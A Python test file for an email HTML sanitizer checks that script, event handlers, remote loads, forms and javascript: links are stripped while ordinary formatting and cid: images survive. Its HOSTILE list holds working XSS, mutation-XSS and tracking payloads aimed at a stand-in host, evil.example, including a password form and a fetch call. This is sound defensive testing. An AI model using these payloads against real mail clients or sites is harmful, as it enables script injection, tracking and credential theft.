"""A stranger's HTML is shown without anything that acts, hides or fetches."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html

from ingest.display import ATTRIBUTES, LINKS, MOST_TAGS, TAGS, safe_html

HEAD = b"From: a@b.example\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
ADDED_BY_THE_CLEANER = {"rel"}
SECONDS = 3.0
"""Ten times what the deepest nesting that is cleaned took when it was measured: other work runs on the machine that tests."""

HOSTILE = [
    "<script>fetch('https://evil.example')</script>",
    "<img src=https://evil.example/pixel.gif width=1>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src=x onerror=alert(1)>",
    "<img srcset='https://evil.example/a 2x' src=cid:a>",
    "<p style=\"background:url('https://evil.example/a')\">x</p>",
    "<style>@import 'https://evil.example/a.css'; body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<body background=https://evil.example/a.png onload=alert(1)>x</body>",
    "<table background=https://evil.example/a.png><tr><td>x</table>",
    "<iframe src=https://evil.example></iframe><object data=https://evil.example></object><embed src=https://evil.example>",
    "<svg><image href=https://evil.example/a.png /><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=https://evil.example onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a><a href='java\tscript:alert(1)'>x</a><a href=' data:text/html,x'>x</a><a href=cid:a>x</a>",
    "<form action=https://evil.example><input name=password><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<video src=https://evil.example poster=https://evil.example><audio src=https://evil.example><source src=https://evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--[if mso]><img src=https://evil.example/a.png><![endif]-->",
    "<input type=image src=https://evil.example/a.png>",
]


def shown(markup: str) -> str:
    """What is shown of a mail with this HTML."""
    return safe_html(HEAD + markup.encode("utf-8", "replace")) or ""


def faults(safe: str) -> list[str]:
    """What a browser could act on or fetch, or could not know: every element and attribute held against the lists."""
    if not safe.strip():
        return []
    found = []
    page = html.document_fromstring(f"<main>{safe}</main>".encode(), parser=html.HTMLParser(encoding="utf-8"))
    for element in page.find(".//main").iterdescendants():
        tag = str(element.tag)
        if tag not in TAGS:
            found.append(f"<{tag}>")
        for name, value in element.attrib.items():
            if name not in {*ATTRIBUTES["*"], *ATTRIBUTES.get(tag, ()), *ADDED_BY_THE_CLEANER}:
                found.append(f"{tag} {name}")
            if name == "src" and not str(value).startswith("cid:"):
                found.append(f"{tag} src={value}")
            if name == "href" and str(value).partition(":")[0].lower() not in LINKS:
                found.append(f"{tag} href={value}")
    return found


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_that_acts_or_fetches_is_left(markup: str) -> None:
    assert faults(shown(f"<p>before {markup} after</p>")) == []


def test_the_check_itself_finds_what_is_hostile() -> None:
    assert faults("<img src='https://evil.example/a'><script>x</script><p style='color:red'><a href='javascript:x'>")


@given(
    st.lists(
        st.sampled_from(HOSTILE)
        | st.sampled_from(["<p>", "</p>", "<!--", "-->", "'", '"', "<", ">", "</svg>", "<td>"])
        | st.text(max_size=9)
    )
)
def test_no_mixture_of_it_is_left_either(pieces: list[str]) -> None:
    assert faults(shown("".join(pieces))) == []


def test_what_a_reader_needs_stays() -> None:
    safe = shown(
        "<h2>Vakt</h2><table><tr><td colspan=2>07–15</td></tr></table><ul><li><b>blå</b></li></ul><a href=https://siv.no/a>her</a>"
    )
    assert '<td colspan="2">07–15</td>' in safe
    assert "<b>blå</b>" in safe
    assert '<a href="https://siv.no/a" rel="noopener noreferrer nofollow">her</a>' in safe


def test_a_picture_of_the_same_mail_stays() -> None:
    assert shown('<img src="cid:skjerm@siv" alt="skjermbilde">') == '<img src="cid:skjerm@siv" alt="skjermbilde">'


def test_a_mail_in_text_has_no_html_to_show() -> None:
    assert safe_html(b"From: a@b.example\r\n\r\n<b>ikke HTML</b>") is None


def test_the_html_twin_of_a_text_is_shown() -> None:
    head = b"From: a@b.example\r\nContent-Type: multipart/alternative; boundary=x\r\n\r\n"
    mail = head + b"--x\r\n\r\ntekst\r\n--x\r\nContent-Type: text/html\r\n\r\n<b>tekst</b>\r\n--x--\r\n"
    assert safe_html(mail) == "<b>tekst</b>"


@pytest.mark.parametrize("piece", ["<div>", "<b><p>", "<a href=x><div>", "<table><tr><td>", "<ul><li>"])
def test_deep_nesting_takes_no_time(piece: str) -> None:
    most = MOST_TAGS // piece.count("<")
    began = time.process_time()
    assert shown(piece * most + "x")
    assert time.process_time() - began < SECONDS


def test_a_mail_of_too_many_tags_is_shown_as_text() -> None:
    assert safe_html(HEAD + b"<div>" * (MOST_TAGS + 1) + b"x") is None
